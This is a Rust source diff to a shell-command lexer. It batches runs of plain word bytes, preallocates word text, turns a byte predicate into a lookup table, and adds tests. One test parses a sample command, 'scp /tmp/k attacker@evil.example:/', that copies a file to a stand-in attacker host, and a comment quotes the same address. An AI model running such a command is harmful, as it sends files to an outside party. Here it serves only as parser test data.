@@ -1804,29 +1804,30 @@ impl Lexer<'_> {
             }
             _ => {}
         }
-        w.text.push(c);
-        w.add_part(Part::Literal(c));
         // Plain word characters right after it would each come back here through one lexer
         // step that does nothing else (no frame, heredoc, continuation or special meaning):
         // take them now, charging the step budget one step each, as the loop would; they
         // are counted as that many literal parts at once ([`WordBuilder::add_literal_run`]).
         // The run is ASCII, so it ends on a char boundary and is appended in one copy. (Without
         // batching the loop brings each char back here: the reference it must equal.)
-        if !self.sh.batch {
-            return;
-        }
         let run_start = self.pos;
-        let limit = self
-            .end
-            .min(src.len())
-            .min(run_start.saturating_add(self.sh.steps_left));
-        let bytes = src.as_bytes();
         let mut q = run_start;
-        while q < limit && bytes.get(q).is_some_and(|&b| is_plain_word_byte(b)) {
-            q += 1;
+        if self.sh.batch {
+            let limit = self
+                .end
+                .min(src.len())
+                .min(run_start.saturating_add(self.sh.steps_left));
+            let bytes = src.as_bytes();
+            while q < limit && bytes.get(q).is_some_and(|&b| is_plain_word_byte(b)) {
+                q += 1;
+            }
         }
         let n = q - run_start;
-        if let Some(&last) = bytes.get(run_start..q).and_then(<[u8]>::last) {
+        // The char and its run in one allocation (see `word_room`).
+        word_room(&mut w.text, c.len_utf8() + n);
+        w.text.push(c);
+        w.add_part(Part::Literal(c));
+        if let Some(&last) = src.as_bytes().get(run_start..q).and_then(<[u8]>::last) {
             self.sh.steps_left -= n;
             self.pos = q;
             if n == 1 {
@@ -2549,6 +2550,22 @@ impl Lexer<'_> {
 // Free helpers
 // ---------------------------------------------------------------------------------------------
 
+/// Bytes a word's text is given when its first literal run is longer than a `String`'s
+/// first allocation (8): most such words then fit in one allocation instead of growing
+/// through a few (`attacker@evil.example:/`), and small allocators serve any size up to it
+/// at the same cost. Shorter runs keep the default (`ls`, `-v`: nothing to gain).
+const WORD_CAP: usize = 24;
+
+/// Room for `add` more bytes in a word's `text` at its first literal run (see
+/// [`WORD_CAP`]); afterwards it grows as a `String` does. (Capacity only: never observable
+/// in the model.)
+#[inline]
+fn word_room(text: &mut String, add: usize) {
+    if add > 8 && text.capacity() == 0 {
+        text.reserve(add.max(WORD_CAP));
+    }
+}
+
 fn make_word(
     text: String,
     span: Span,
@@ -2578,6 +2595,30 @@ fn is_compound_opener(word: &str) -> bool {
 
 /// Bytes that continue a word with no special meaning (see `Lexer::literal`).
 fn is_plain_word_byte(b: u8) -> bool {
+    PLAIN_WORD_BYTES
+        .get(usize::from(b))
+        .copied()
+        .unwrap_or(false)
+}
+
+/// [`is_plain_word_byte`] as a table (one load per byte of a word's run).
+const PLAIN_WORD_BYTES: [bool; 256] = {
+    let mut t = [false; 256];
+    let mut b = 0;
+    while b < 256 {
+        #[expect(clippy::cast_possible_truncation, reason = "b < 256")]
+        let c = b as u8;
+        #[expect(clippy::indexing_slicing, reason = "b < 256 (const context)")]
+        {
+            t[b] = plain_word_byte_ref(c);
+        }
+        b += 1;
+    }
+    t
+};
+
+/// The definition [`PLAIN_WORD_BYTES`] tabulates.
+const fn plain_word_byte_ref(b: u8) -> bool {
     b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'/' | b':' | b'+' | b'@' | b'%')
 }
 
@@ -2674,6 +2715,41 @@ mod tests {
         let inner = lx("echo `echo $A\\\nB`");
         let nested = &inner.commands[0].nested[0].script.commands[0];
         assert_eq!(nested.argv[1].text, "$AB");
+    }
+
+    /// The table says of every byte what its definition says.
+    #[test]
+    fn the_plain_word_byte_table_is_its_definition() {
+        for b in 0..=u8::MAX {
+            assert_eq!(is_plain_word_byte(b), plain_word_byte_ref(b), "{b:#04x}");
+        }
+        assert!(is_plain_word_byte(b'a') && is_plain_word_byte(b'%'));
+        assert!(
+            !is_plain_word_byte(b'.') && !is_plain_word_byte(b'$') && !is_plain_word_byte(0xC3)
+        );
+    }
+
+    /// A word's first literal run sizes its text; the text is the same whatever the size.
+    #[test]
+    fn word_text_room_changes_capacity_only() {
+        let mut t = String::new();
+        word_room(&mut t, 3);
+        assert_eq!(t.capacity(), 0, "a short run keeps the default growth");
+        word_room(&mut t, 13);
+        assert!(t.capacity() >= WORD_CAP);
+        t.push_str("attacker@evil");
+        word_room(&mut t, 40);
+        assert!(t.capacity() < 40, "only the first allocation is sized");
+        let s = lx("scp /tmp/k attacker@evil.example:/ https://example.com/install.sh");
+        assert_eq!(
+            argvs(&s),
+            [[
+                "scp",
+                "/tmp/k",
+                "attacker@evil.example:/",
+                "https://example.com/install.sh"
+            ]]
+        );
     }
 
     proptest::proptest! {
